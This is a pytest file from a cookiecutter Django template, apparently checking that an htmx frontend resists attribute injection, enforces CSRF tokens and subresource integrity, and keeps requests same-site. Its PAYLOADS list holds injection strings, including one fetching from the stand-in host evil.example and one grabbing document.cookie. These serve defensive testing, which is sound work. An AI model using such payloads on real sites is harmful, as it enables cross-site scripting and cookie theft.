# % if cookiecutter.frontend == "htmx"
"""Attributes that make htmx do another's will: it runs no text, and asks no other site."""

import base64
import hashlib
import json
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.templatetags.static import static
from django.urls import reverse

from tests.conftest import HOST, Browser
from tests.test_pages import Page

HTMX = {"hx-request": "true"}
# Of htmx.min.js of htmx 2.0.11, as it is in the npm registry.
PUBLISHED = "d6fdc75f204e6bdefa99b69bf1e6d4ac69b8a364f77929f45c13476b4000f717"
# Who writes one of these into a name would have others send requests, or run code.
PAYLOADS = [
    '<img hx-post="/accounts/profile/" hx-trigger="load">',
    '"><b hx-get="https://evil.example/" hx-trigger="load">',
    "' hx-on:click='alert(1)'",
    '<p hx-vals="js:{stolen: document.cookie}">',
    '<script src="/static/vendor/htmx.min.js"></script>',
]


@pytest.fixture(params=["home", "login", "profile", "people", "password_change"])
def page(request, staff_browser):
    """Each page of the site's look that a user sees."""
    response = staff_browser.get(reverse(request.param))
    assert response.status_code == 200
    return Page(response.text)


def config_of(page):
    """What the page tells htmx."""
    [meta] = [meta for meta in page.all("meta") if meta.get("name") == "htmx-config"]
    return json.loads(meta["content"])


def token_of(page):
    """What htmx sends along from the page."""
    [body] = page.all("body")
    return json.loads(body["hx-headers"])["X-CSRFToken"]


def test_the_browser_runs_the_file_that_its_makers_published_and_no_other(page, browser):
    [script] = page.all("script")
    response = browser.get(script["src"])
    served = b"".join(response)
    response.close()
    assert hashlib.sha256(served).hexdigest() == PUBLISHED
    sha384 = base64.b64encode(hashlib.sha384(served).digest()).decode()
    assert script["integrity"] == f"sha384-{sha384}"


def test_another_file_would_have_another_hash(page, browser):
    response = browser.get(static("css/site.css"))
    sha384 = base64.b64encode(hashlib.sha384(b"".join(response)).digest()).decode()
    response.close()
    assert page.all("script")[0]["integrity"] != f"sha384-{sha384}"


def test_on_every_page_htmx_runs_no_text_and_fetches_from_this_site_alone(page):
    config = config_of(page)
    assert config["selfRequestsOnly"] is True
    assert config["allowEval"] is False
    assert config["allowScriptTags"] is False
    assert config["includeIndicatorStyles"] is False  # the policy would refuse them


def test_on_every_page_htmx_keeps_nothing_in_the_browser(page):
    assert config_of(page)["historyCacheSize"] == 0
    assert config_of(page)["refreshOnHistoryMiss"] is True


def runs_text(template):
    """What in `template` htmx could do only by running a text."""
    return re.findall(r"\shx-on[:-]\S+|=\s*['\"](?:js|javascript):|hx-trigger=\"[^\"]*\[", template)


def test_no_template_asks_htmx_to_run_a_text(template_files: list[Path]):
    assert template_files
    assert not [path for path in template_files if runs_text(path.read_text(encoding="utf-8"))]


@pytest.mark.parametrize(
    "template",
    [
        '<a hx-on:click="go()">',
        '<a hx-on--load="go()">',
        "<a hx-vals='js:{a: 1}'>",
        '<a hx-trigger="click[event.ctrlKey]">',
    ],
)
def test_the_scan_sees_a_text_that_is_run(template):
    assert runs_text(template)


def test_a_part_of_a_page_comes_alone(staff_browser, user):
    part = staff_browser.get(reverse("people"), {"q": "alice"}, headers=HTMX)
    assert "alice@site.example" in part.text
    assert "<html" not in part.text
    whole = staff_browser.get(reverse("people"), {"q": "alice"})
    assert "alice@site.example" in whole.text
    assert "<html" in whole.text


def test_no_cache_takes_the_part_for_the_page(staff_browser):
    for headers in HTMX, {}:
        response = staff_browser.get(reverse("people"), headers=headers)
        assert "HX-Request" in response.headers["Vary"]
        assert "no-store" in response.headers["Cache-Control"]


def test_a_part_of_a_page_wants_a_sign_in_of_the_whole_page(browser):
    response = browser.get(reverse("people"), {"q": "a"}, headers=HTMX)
    assert response.status_code == 204
    assert response.headers["HX-Redirect"].startswith(f"{reverse('login')}?next=/accounts/people/")
    assert "HX-Request" in response.headers["Vary"]
    assert browser.get(reverse("people"), {"q": "a"}).status_code == 302


# % if cookiecutter.mfa != "none"
def test_a_part_of_a_page_wants_the_second_factor_of_the_whole_page(half_browser):
    response = half_browser.get(reverse("people"), {"q": "a"}, headers=HTMX)
    assert response.status_code == 204
    door = f"{reverse('second_factor')}?next=/accounts/people/"
    assert response.headers["HX-Redirect"].startswith(door)


# % endif
def test_whoever_is_signed_out_meanwhile_is_led_to_the_sign_in(staff_browser, staff):
    assert "HX-Redirect" not in staff_browser.get(reverse("people"), headers=HTMX).headers
    staff.set_unusable_password()  # ends every session
    staff.save()
    assert "HX-Redirect" in staff_browser.get(reverse("people"), headers=HTMX).headers


def test_who_is_no_staff_is_refused_the_part_too(members_browser):
    assert members_browser.get(reverse("people"), headers=HTMX).status_code == 403


def test_other_redirects_stay_what_they_are(members_browser):
    saved = members_browser.post(reverse("profile"), {"first_name": "Ada"}, headers=HTMX)
    assert (saved.status_code, saved.url) == (302, reverse("profile"))


@pytest.fixture
def strict_member(user):
    """A signed-in user's browser whose requests are checked for CSRF."""
    browser = Browser(enforce_csrf_checks=True)
    browser.force_login(user, "django.contrib.auth.backends.ModelBackend")
    return browser


def change_name(browser, **headers):
    """Change one's name as htmx does, with no token in the form."""
    headers |= HTMX | {"origin": f"https://{HOST}"}
    return browser.post(reverse("profile"), {"first_name": "Ada"}, headers=headers)


def test_a_change_by_htmx_wants_the_token(strict_member, user):
    token = token_of(Page(strict_member.get(reverse("profile")).text))
    assert change_name(strict_member).status_code == 403
    assert change_name(strict_member, **{"x-csrftoken": "a" * 64}).status_code == 403
    user.refresh_from_db()
    assert user.first_name == ""
    assert change_name(strict_member, **{"x-csrftoken": token}).status_code == 302
    user.refresh_from_db()
    assert user.first_name == "Ada"


def test_the_token_is_sent_from_every_page_of_a_user(page):
    assert len(token_of(page)) == 64


def test_a_strangers_page_that_may_be_stored_has_no_token(browser):
    assert Page(browser.get("/").text).all("body") == [{}]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_attributes_in_a_name_are_inert(staff_browser, user, payload):
    user.first_name = payload
    user.save()
    for headers in HTMX, {}:
        found = staff_browser.get(reverse("people"), {"q": "alice"}, headers=headers)
        assert payload not in found.text
        assert hx_attributes(found) <= OURS
        assert [person.first_name for person in found.context["people"]] == [payload]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_attributes_in_what_is_searched_for_are_inert(staff_browser, payload):
    for headers in HTMX, {}:
        found = staff_browser.get(reverse("people"), {"q": payload}, headers=headers)
        assert payload not in found.text
        assert hx_attributes(found) <= OURS


OURS = {"hx-headers", "hx-get", "hx-trigger", "hx-target", "hx-replace-url"}


def hx_attributes(response):
    """The attributes of a page, read as a browser reads it, that htmx would act on."""
    elements = Page(response.text).elements
    inputs = [names for tag, names in elements if tag not in {"body", "input"}]
    assert not [name for names in inputs for name in names if name.startswith("hx-")]
    return {name for _, names in elements for name in names if name.startswith("hx-")}


def test_git_leaves_the_file_as_it_is():
    attributes = (settings.BASE_DIR / ".gitattributes").read_text(encoding="utf-8")
    assert "static/vendor/** -text -diff linguist-vendored\n" in attributes


# % endif
